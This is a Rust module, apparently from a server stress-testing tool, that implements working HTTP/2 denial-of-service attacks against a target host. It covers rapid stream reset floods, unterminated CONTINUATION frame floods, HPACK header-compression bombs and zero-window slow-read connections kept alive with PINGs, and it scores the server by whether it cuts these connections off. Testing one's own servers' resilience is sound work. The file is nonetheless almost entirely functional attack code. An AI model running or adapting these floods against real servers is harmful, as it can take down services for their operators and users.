//! Attackers over HTTP/2 (RFC 9113), with frames that no browser sends, or not so many.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, timeout};
use tokio_rustls::client::TlsStream;

use super::field::Field;

const SECOND: Duration = Duration::from_secs(1);

/// Attackers from one address, fewer than the page lets one address have.
const AN_ADDRESS: usize = 20;

/// How long the server may take to close a connection for what was sent, and for its time.
const RIDDANCE: Duration = Duration::from_secs(30);
const OVERDUE: [Duration; 2] = [Duration::from_secs(20), Duration::from_secs(80)];

/// How long a peer waits for its bytes to be taken before it counts as held up.
const HELD_UP: Duration = Duration::from_secs(1);

/// Maximum bytes of a frame of the server's.
const FRAME: usize = 16_384;

/// Kinds of frames and flags (RFC 9113, 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const WHOLE: u8 = END_STREAM | END_HEADERS;

/// The first bytes of a client (RFC 9113, 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A first byte of a head that says that all is well: `:status 200` in the static table of HPACK.
const STATUS_200: u8 = 0x88;

/// SETTINGS_INITIAL_WINDOW_SIZE of 0: no byte of a body is taken.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A connection of an attacker.
struct Http2Peer {
    stream: TlsStream<TcpStream>,
    /// The head of a request for the page, as HPACK (RFC 7541) has it without compression.
    head: Vec<u8>,
}

impl Http2Peer {
    /// Opens one from the `number`th address, with these settings.
    async fn open(field: &Field, number: usize, settings: &[u8]) -> io::Result<Http2Peer> {
        let stream = field.connect_http2(number).await?;
        let host = field.target().to_string();
        // GET, https and / are entries of the static table, and :authority is the name of one.
        let mut head = vec![0x82, 0x87, 0x84, 0x01];
        head.extend(u8::try_from(host.len()));
        head.extend(host.bytes());
        let mut peer = Http2Peer { stream, head };
        let begin = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        peer.send(field, &begin).await?;
        Ok(peer)
    }

    fn request(&self, stream: u32) -> Vec<u8> {
        frame(HEADERS, WHOLE, stream, &self.head)
    }

    /// Sends bytes; an error if the server has hung up or does not take them.
    async fn send(&mut self, field: &Field, bytes: &[u8]) -> io::Result<()> {
        field.sent(bytes.len());
        timeout(HELD_UP, self.stream.write_all(bytes)).await?
    }

    /// The next frame of a kind; None at the end of the connection.
    async fn next(&mut self, kind: u8) -> Option<Vec<u8>> {
        loop {
            let mut head = [0; 9];
            self.stream.read_exact(&mut head).await.ok()?;
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; usize::try_from(length).ok()?.min(FRAME)];
            self.stream.read_exact(&mut payload).await.ok()?;
            if head[3] == kind {
                return Some(payload);
            }
        }
    }

    /// Reads until the server has closed; false if it has not within `patience`.
    async fn is_closed(&mut self, patience: Duration) -> bool {
        timeout(patience, self.next(u8::MAX)).await.is_ok()
    }
}

/// Requests that are taken back at once, and others that are taken back while the server answers them.
pub async fn resets(field: Arc<Field>) {
    let growing = field.until_refused(field.count(200, 6) as u64);
    field.crowd(field.count(100, 6), growing, take_back).await;
}

async fn take_back(field: Arc<Field>, number: usize) -> io::Result<()> {
    while !field.is_over() {
        let mut peer = Http2Peer::open(&field, number / AN_ADDRESS, &[]).await?;
        let _held = field.hold();
        field.tried();
        let mut streams = (1..).step_by(2);
        let mut sent = Ok(());
        while sent.is_ok() && !field.is_over() {
            let mut burst = Vec::new();
            for stream in streams.by_ref().take(100) {
                burst.extend(peer.request(stream));
                if number.is_multiple_of(2) {
                    // CANCEL (RFC 9113, 7).
                    burst.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
            }
            sent = peer.send(&field, &burst).await;
        }
        if sent.is_err() || peer.is_closed(RIDDANCE).await {
            field.refused();
        } else if !field.is_over() {
            field.failed("requests are taken back without end");
        }
        field.pause(SECOND / 10).await;
    }
    Ok(())
}

/// Heads without an end.
pub async fn continuations(field: Arc<Field>) {
    let growing = field.until_refused(field.count(200, 6) as u64);
    field.crowd(field.count(100, 6), growing, go_on).await;
}

async fn go_on(field: Arc<Field>, number: usize) -> io::Result<()> {
    // A header without a value, or nothing at all.
    let part: &[u8] = if number.is_multiple_of(2) {
        b"\0\x01a\0"
    } else {
        b""
    };
    while !field.is_over() {
        let mut peer = Http2Peer::open(&field, number / AN_ADDRESS, &[]).await?;
        let _held = field.hold();
        field.tried();
        let begin = frame(HEADERS, END_STREAM, 1, &peer.head);
        let more = frame(CONTINUATION, 0, 1, part).repeat(1_000);
        let mut sent = peer.send(&field, &begin).await;
        while sent.is_ok() && !field.is_over() {
            sent = peer.send(&field, &more).await;
        }
        if sent.is_err() || peer.is_closed(RIDDANCE).await {
            field.refused();
        } else {
            field.failed("a head goes on without end");
        }
        field.pause(SECOND / 10).await;
    }
    Ok(())
}

/// Heads of some kilobytes that unpack to megabytes.
pub async fn heads(field: Arc<Field>) {
    let growing = field.until_refused(field.count(200, 6) as u64);
    field.crowd(field.count(100, 6), growing, unpack).await;
}

async fn unpack(field: Arc<Field>, number: usize) -> io::Result<()> {
    while !field.is_over() {
        let mut peer = Http2Peer::open(&field, number / AN_ADDRESS, &[]).await?;
        let _held = field.hold();
        let mut bomb = peer.head.clone();
        // A header of two kilobytes goes into the table of the connection, and is then named again and again.
        bomb.extend(b"\x40\x01a\x7f\x81\x0f");
        bomb.extend([b'x'; 2_048]);
        bomb.extend([0xbe; 12_000]);
        let mut streams = (1..).step_by(2);
        while !field.is_over() {
            field.tried();
            let stream = streams.next().unwrap_or(1);
            let asked = frame(HEADERS, WHOLE, stream, &bomb);
            if peer.send(&field, &asked).await.is_err() {
                field.refused();
                break;
            }
            match timeout(RIDDANCE, peer.next(HEADERS)).await {
                Ok(Some(head)) if head.first() == Some(&STATUS_200) => {
                    field.failed("a head of megabytes is taken");
                }
                Ok(Some(_)) => field.refused(),
                Ok(None) => {
                    field.refused();
                    break;
                }
                Err(_) => field.failed("a head of megabytes is not answered"),
            }
        }
        field.pause(SECOND / 10).await;
    }
    Ok(())
}

/// Browsers that ask for as much as they may, take none of it, and say now and then that they are there.
pub async fn slow(field: Arc<Field>) {
    let growing = field.pause(SECOND);
    field
        .crowd(field.count(400, 20), growing, take_nothing)
        .await;
}

async fn take_nothing(field: Arc<Field>, number: usize) -> io::Result<()> {
    while !field.is_over() {
        // The server has no place where all are taken by connections that it answers.
        let Ok(mut peer) = Http2Peer::open(&field, number / AN_ADDRESS, &NO_WINDOW).await else {
            field.pause(SECOND).await;
            continue;
        };
        let _held = field.hold();
        field.tried();
        let asked: Vec<u8> = (1..200)
            .step_by(2)
            .flat_map(|stream| peer.request(stream))
            .collect();
        let mut open = peer.send(&field, &asked).await.is_ok();
        let began = Instant::now();
        while open && began.elapsed() < OVERDUE[usize::from(!field.quick)] {
            open = !peer.is_closed(SECOND / 2).await;
            open &= peer.send(&field, &frame(PING, 0, 0, &[0; 8])).await.is_ok();
            if field.is_over() && !field.to_the_end {
                return Ok(());
            }
        }
        if open {
            field.failed("a browser that takes nothing is still waited for");
        } else {
            field.refused();
        }
    }
    Ok(())
}
